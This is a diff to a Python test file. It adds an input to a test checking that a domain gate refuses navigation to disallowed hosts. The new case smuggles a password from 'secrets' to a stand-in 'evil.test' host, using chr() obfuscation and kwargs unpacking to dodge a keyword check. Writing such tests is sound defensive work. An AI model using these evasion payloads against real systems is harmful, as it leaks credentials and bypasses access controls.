@@ -384,6 +384,7 @@ def test_gate_allows_getattr_with_a_plain_literal_and_main_guard():
         'params["base_url"] + ".evil.test/x"',
         'params["base_url"] + "@evil.test"',
         'f"{params[\'base_url\']}.evil.test/x"',
+        '**{"url": "https://" + chr(101) + "vil.test/?" + params["secrets"]["pw"]}',  # no `url` keyword to check
     ],
 )
 def test_gate_refuses_goto_outside_allowed_domains(url):
